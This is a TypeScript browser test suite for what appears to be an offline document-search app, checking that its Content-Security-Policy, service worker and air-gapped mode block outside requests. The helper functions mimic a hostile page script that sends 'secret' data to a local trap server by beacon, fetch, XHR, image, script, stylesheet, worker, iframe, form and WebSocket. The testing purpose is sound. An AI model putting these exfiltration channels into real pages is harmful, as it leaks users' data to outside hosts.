import { rm } from 'node:fs/promises';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import {
  voyageAnswer,
  voyageDocuments,
  voyageQuestion,
  writeDocuments,
} from '../e2e/harness/own-documents.ts';
import { ProductPage } from '../e2e/harness/product-page.ts';
import { serveStatic } from '../e2e/harness/serve-static.ts';
import { serveWithSources } from '../e2e/harness/serve-with-sources.ts';
import { openTrap, type Trap } from '../kit/trap.ts';
import { launchBrowser } from './harness/launch-browser.ts';
import { serveBuilt } from './harness/serve-built.ts';

let browser: Browser;
let trap: Trap;

beforeAll(async () => {
  trap = await openTrap();
  browser = await launchBrowser();
});
afterEach(async () => {
  for (const context of browser.contexts()) await context.close();
  trap.caught.length = 0;
});
afterAll(async () => {
  await browser.close();
  await trap.close();
});

/** The page, with its worker in charge: it is from the second visit on. */
async function visited(context: BrowserContext, address: string): Promise<Page> {
  const page = await context.newPage();
  await page.goto(address);
  await page.locator('h1').first().waitFor();
  // Bounded, unlike serviceWorker.ready, which never settles where the worker cannot be installed.
  await page.waitForFunction(() => navigator.serviceWorker.controller?.state === 'activated');
  await page.waitForFunction(async () => {
    const kept = await (await caches.open('reroute-mode')).keys();
    return kept.length > 0;
  });
  await page.reload();
  await page.locator('h1').first().waitFor();
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  return page;
}

/** What a hostile script in the page would try; each is over, one way or the other, before this is. */
async function tryEverything(page: Page, origin: string): Promise<void> {
  await page.evaluate(async (to) => {
    const ended = (element: HTMLElement) =>
      new Promise((resolve) => {
        element.onload = resolve;
        element.onerror = resolve;
        document.head.append(element);
      });
    const make = <K extends keyof HTMLElementTagNameMap>(
      name: K,
      fields: Partial<HTMLElementTagNameMap[K]>,
    ) => ended(Object.assign(document.createElement(name), fields));
    navigator.sendBeacon(`${to}/beacon`, 'secret');
    const code = `fetch('${to}/from-a-worker').catch(() => {}).finally(() => postMessage('over'))`;
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    const events = new EventSource(`${to}/events`);
    await Promise.allSettled([
      fetch(`${to}/fetch`),
      fetch(`${to}/no-cors`, { mode: 'no-cors', method: 'POST', body: 'secret' }),
      make('img', { src: `${to}/image.gif?secret` }),
      make('script', { src: `${to}/script.js` }),
      make('link', { rel: 'stylesheet', href: `${to}/style.css?secret` }),
      new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.onloadend = resolve;
        request.open('POST', `${to}/xhr`);
        request.send('secret');
      }),
      new Promise((resolve) => {
        worker.onmessage = resolve;
        worker.onerror = resolve;
      }),
      new Promise((resolve) => {
        events.onerror = resolve;
      }),
    ]);
    worker.terminate();
    events.close();
  }, origin);
}

/** What no service worker sees. */
async function tryAroundWorkers(page: Page, origin: string): Promise<void> {
  await page.evaluate(async (to) => {
    const frame = document.createElement('iframe');
    frame.src = `${to}/frame?secret`;
    const form = document.createElement('form');
    Object.assign(form, { action: `${to}/form`, method: 'post', target: 'elsewhere' });
    const target = Object.assign(document.createElement('iframe'), { name: 'elsewhere' });
    document.body.append(frame, target, form);
    form.submit();
    const closed = new Promise((resolve) => {
      try {
        const socket = new WebSocket(`${to.replace('http', 'ws')}/socket?secret`);
        // Where the policy forbids it, Chromium tells of the error only.
        socket.onerror = resolve;
        socket.onclose = resolve;
      } catch {
        resolve(undefined);
      }
    });
    await closed;
    // A frame that may load has begun to by the next load of a file of our own.
    await (await fetch('icon.svg', { cache: 'reload' })).text();
  }, origin);
}

describe('without any lock, the trap', () => {
  it('catches all of these tries: it is the locks that hold them', async () => {
    const served = await serveStatic();
    const page = await (await browser.newContext({ serviceWorkers: 'block' })).newPage();
    await page.goto(served.address);
    await page.locator('h1').first().waitFor();
    await tryEverything(page, trap.origin);
    await tryAroundWorkers(page, trap.origin);
    const came = trap.caught.map((line) => line.replace(/\?.*/u, ''));
    expect([...new Set(came)].sort()).toEqual(
      [
        ...[
          'GET /events',
          'GET /fetch',
          'GET /frame',
          'GET /from-a-worker',
          'GET /image.gif',
          'GET /script.js',
        ],
        ...['GET /style.css', 'POST /beacon', 'POST /form', 'POST /no-cors', 'POST /xhr', 'socket /socket'],
      ].sort(),
    );
    served.close();
  });
});

describe('the server’s lock alone, without the worker and with a script in the page', () => {
  it('lets the browser reach no other origin by its Content-Security-Policy', async () => {
    const served = await serveBuilt(new AbortController().signal);
    const page = await (await browser.newContext({ serviceWorkers: 'block' })).newPage();
    await page.goto(served.address);
    await page.locator('h1').first().waitFor();
    await tryEverything(page, trap.origin);
    await tryAroundWorkers(page, trap.origin);
    expect(trap.caught).toEqual([]);
    await served.close();
  });

  it('asks no source and fetches no model once it was started air-gapped, whatever the page says of its mode', async () => {
    const sources = [{ kind: 'searxng', id: 'trap', url: `${trap.origin}/` }];
    const ask = async (address: string) => {
      const page = await (await browser.newContext({ serviceWorkers: 'block' })).newPage();
      await page.goto(address);
      return page.evaluate(async (to) => {
        const headers = { 'x-reroute-mode': 'open', 'content-type': 'application/json' };
        const query = { text: 'secret', phrases: [], match: 'any', prefix: false };
        const post = async (route: string, body: object) =>
          (await fetch(`api/${route}`, { method: 'POST', headers, body: JSON.stringify(body) })).status;
        const model = `models/fetch?url=${encodeURIComponent(`${to}/model.gguf`)}`;
        return [
          await post('search', { source: 'trap', query, page: 0, pageSize: 5 }),
          await post('read', { source: 'trap', document: `${to}/page` }),
          await post('test-source', { source: 'trap' }),
          (await fetch(model, { headers })).status,
        ];
      }, trap.origin);
    };
    const open = await serveWithSources({ sources });
    expect((await ask(open.address))[0]).toBe(200);
    expect(trap.caught.length).toBeGreaterThan(0);
    trap.caught.length = 0;
    await open.close();
    const gapped = await serveWithSources({ sources, airGapped: true });
    expect(await ask(gapped.address)).toEqual([403, 403, 403, 403]);
    expect(trap.caught).toEqual([]);
    await gapped.close();
  });
});

describe('the service worker alone, without the Content-Security-Policy and with a script in the page', () => {
  it('lets nothing that a worker of this kind sees reach another origin, in any mode', async () => {
    const served = await serveStatic();
    const page = await visited(await browser.newContext(), served.address);
    await tryEverything(page, trap.origin);
    expect(trap.caught).toEqual([]);
    served.close();
  });

  it('lets nothing through to the doors of a server that would ask, where the mode is air-gapped', async () => {
    const served = await serveWithSources({
      sources: [{ kind: 'searxng', id: 'trap', url: `${trap.origin}/` }],
    });
    const page = await visited(await browser.newContext({ bypassCSP: true }), served.address);
    const ask = () =>
      page.evaluate(async () => {
        const headers = { 'x-reroute-mode': 'open', 'content-type': 'application/json' };
        const body = JSON.stringify({ source: 'trap' });
        const reply = await fetch('api/test-source', { method: 'POST', headers, body });
        return reply.text();
      });
    expect(await ask()).not.toContain('service worker');
    expect(trap.caught.length).toBeGreaterThan(0);
    await page.goto(`${served.address}#/sources`);
    await page.getByText('Air-gapped', { exact: true }).first().click();
    await expect.poll(ask).toContain('service worker');
    trap.caught.length = 0;
    await ask();
    expect(trap.caught).toEqual([]);
    await served.close();
  });
});

describe('the page without its server', () => {
  it.each([
    ['its own server', () => serveBuilt(new AbortController().signal)],
    ['a static host, on which its workers share memory from the second visit on', serveStatic],
  ])('opens after the first visit to %s, and answers from the library', async (_, serve) => {
    const served = await serve();
    const folder = await writeDocuments(voyageDocuments);
    const page = await visited(await browser.newContext(), served.address);
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
    const product = new ProductPage(page, served.address);
    await product.addFiles(folder);
    await product.imported(/documents added/);
    await served.close();
    await page.reload();
    await product.ask(voyageQuestion);
    expect(await product.answer.textContent()).toContain(voyageAnswer);
    await rm(folder, { recursive: true });
  });
});
